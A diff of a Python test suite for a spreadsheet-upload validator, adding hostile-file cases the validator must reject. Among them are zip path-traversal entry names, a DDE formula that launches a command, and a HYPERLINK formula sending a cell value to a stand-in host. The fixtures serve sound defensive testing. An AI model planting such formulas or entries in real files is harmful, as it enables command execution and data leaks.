@@ -75,6 +75,18 @@ def error_value_at(ref: str, error: str = "#DIV/0!"):
     return make
 
 
+def cell_xml_at(ref: str, body: str, attrs: str = ""):
+    """A good fill with the cell `ref` of 指标填报 rewritten as <c r=ref attrs>body</c>: a formula
+    with its cached result, as Excel and WPS save it (openpyxl writes none)."""
+
+    def make(template: bytes) -> bytes:
+        pattern = re.compile(rf'<c r="{ref}"[^>]*?(/>|>.*?</c>)', re.S)
+        cell = f'<c r="{ref}" {attrs}>{body}</c>'
+        return patch_sheet_xml(fill(template), IND, lambda xml: pattern.sub(lambda m: cell, xml))
+
+    return make
+
+
 def f(indicators=None, tasks=None, **kwargs) -> Callable[[bytes], bytes]:
     return lambda template: fill(template, indicators, tasks, **kwargs)
 
@@ -126,6 +138,54 @@ CASES = [
         "malformed-sheet-xml",
         lambda t: hostile.malformed_sheet_xml(fill(t), IND),
         [("file-unreadable", None, None)],
+    ),
+    Case("duplicate-entry", hostile.with_duplicate_entry, [("file-zip-duplicate", None, None)]),
+    Case(
+        "duplicate-entry-by-case", hostile.with_duplicate_entry_by_case, [("file-zip-duplicate", None, None)]
+    ),
+    Case("entry-parent-path", hostile.with_entry("../../evil.xml"), [("file-zip-path", None, None)]),
+    Case("entry-absolute-path", hostile.with_entry("/etc/cron.d/x"), [("file-zip-path", None, None)]),
+    Case(
+        "entry-backslash", hostile.with_entry("xl\\worksheets\\sheet9.xml"), [("file-zip-path", None, None)]
+    ),
+    Case("dde-external-link", hostile.with_dde_external_link, [("file-external-link", None, None)]),
+    Case(
+        "external-link-relationship",
+        hostile.with_external_link_relationship_only,
+        [("file-external-link", None, None)],
+    ),
+    Case(
+        "unc-hyperlink",
+        lambda t: hostile.with_unc_hyperlink(fill(t), IND),
+        [("file-external-link", None, None)],
+    ),
+    Case("embedded-ole-object", hostile.with_ole_object, [("file-embedded-object", None, None)]),
+    Case("remote-ole-object", hostile.with_remote_ole_relationship, [("file-embedded-object", None, None)]),
+    # ---- sheets beyond their budget: refused before any reader allocates for them
+    Case(
+        "one-cell-at-XFD1048576",
+        lambda t: hostile.with_cells(IND, ["XFD1048576"])(fill(t)),
+        [("sheet-too-large", IND, "XFD1048576")],
+    ),
+    Case(
+        "dimension-claims-the-whole-grid",
+        lambda t: hostile.with_dimension(fill(t), hostile.first_sheet_part(t), "A1:XFD1048576"),
+        [("sheet-too-large", "填报说明", "XFD1048576")],
+    ),
+    Case(
+        "rows-beyond-the-budget",
+        lambda t: hostile.with_cells(TSK, [f"I{r}" for r in range(5001, 5011)], "进展")(fill(t)),
+        [("sheet-too-large", TSK, "I5001")],
+    ),
+    Case(
+        "note-beyond-the-column-margin",
+        lambda t: hostile.with_cells(IND, ["AP4"], "备注")(fill(t)),
+        [("sheet-too-large", IND, "AP4")],
+    ),
+    Case(
+        "added-sheet-too-large",
+        lambda t: hostile.with_cells("草稿", ["A1", "B6000"])(fill(t)),
+        [("sheet-too-large", "草稿", "B6000")],
     ),
     # ---- stage 2: structure
     Case("sheet-deleted", f(edit=remove_sheet(TSK)), [("sheet-missing", TSK, None)]),
@@ -204,12 +264,37 @@ CASES = [
         [("value-not-applicable", IND, "N6"), ("indicator-value-missing", IND, "N6")],
     ),
     Case("text-not-number", f(indicators=v("T-K01", "一千零五十")), [("value-not-number", IND, "N4")]),
+    Case("infinite-as-text", f(indicators=v("T-K01", "1e999")), [("value-not-finite", IND, "N4")]),
+    Case("nan-as-text", f(indicators=v("T-K02", "NaN")), [("value-not-finite", IND, "N5")]),
+    Case("absurd-magnitude", f(indicators=v("T-K01", "1.79e308")), [("value-too-large", IND, "N4")]),
+    Case("just-over-the-bound", f(indicators=v("T-K02", -1.5e15)), [("value-too-large", IND, "N5")]),
+    Case("percent-too-large", f(tasks={"T-1.1": {"percent": "1e400%"}}), [("value-not-finite", TSK, "H4")]),
     Case(
         "formula-without-cached-value",
         f(indicators=v("T-K01", "=1000+50")),
         [("formula-without-value", IND, "N4")],
     ),
     Case("excel-error-value", error_value_at("N5"), [("excel-error-value", IND, "N5")]),
+    Case(
+        "formula-with-cached-value",
+        cell_xml_at("N4", "<f>1000+50</f><v>1050</v>"),
+        [("formula-not-allowed", IND, "N4")],
+    ),
+    Case(
+        "dde-formula-with-cached-value",
+        cell_xml_at("O4", "<f>cmd|' /C calc'!A0</f><v>0</v>", 't="str"'),
+        [("formula-not-allowed", IND, "O4")],
+    ),
+    Case(
+        "hyperlink-formula",
+        cell_xml_at("O5", '<f>HYPERLINK("http://x.example/?v="&amp;N5,"来源")</f><v>来源</v>', 't="str"'),
+        [("formula-not-allowed", IND, "O5")],
+    ),
+    Case(
+        "formula-beside-the-table",
+        f(cells={(IND, "Q2"): "=SUM(N4:N8)"}),
+        [("formula-not-allowed", IND, "Q2")],
+    ),
     # ---- stage 3: rows (Pandera)
     Case("percent-over-100", f(tasks={"T-1.1": {"percent": 120}}), [("value-above-max", TSK, "H4")]),
     Case("percent-negative", f(tasks={"T-1.1": {"percent": -5}}), [("value-below-min", TSK, "H4")]),
@@ -352,10 +437,11 @@ def test_randomly_damaged_files_give_issues_not_tracebacks(seed, good):
 def test_a_refused_file_is_never_parsed(template, monkeypatch):
     import validators.pipeline as pipeline
 
-    def fail(data):
+    def fail(data, **options):
         raise AssertionError("a refused file reached the reader")
 
     monkeypatch.setattr(pipeline, "read_upload", fail)
+    monkeypatch.setattr(pipeline, "_isolated_read", fail)
     result = run(hostile.with_macro(template))
     assert result.upload is None and result.report.codes() == ["file-macro-enabled"]
     assert result.stages_run == ["file"]
